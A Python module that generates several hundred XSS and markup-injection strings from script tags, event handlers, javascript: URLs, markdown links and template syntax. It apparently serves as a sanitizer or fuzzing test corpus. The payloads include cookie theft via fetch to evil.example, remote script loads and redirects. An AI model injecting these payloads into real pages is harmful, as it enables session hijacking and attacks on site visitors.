"""Texts that try to become more than text, wherever they are written: several hundred, from a few dozen seeds."""

from itertools import product

_CALLS = ("alert(1)", "fetch('https://evil.example/'+document.cookie)", "top.location='https://evil.example'")

_SEEDS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror={}>",
    "<img src=https://evil.example/x.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<a href=javascript:{}>x</a>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "[x](javascript:{})",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "{{{{ {} }}}}",
    "${{{}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "expression({})",
    "url(https://evil.example/x)",
)

_AROUND = ("{}", '">{}', "'>{}", "</title>{}", "</style>{}", "</textarea>{}", "-->{}", "]]>{}", "\\{}")

PAYLOADS = tuple(
    dict.fromkeys(
        around.replace("{}", seed.format(call))
        for (seed, around), call in zip(product(_SEEDS, _AROUND), _CALLS * len(_SEEDS) * len(_AROUND), strict=False)
    )
)
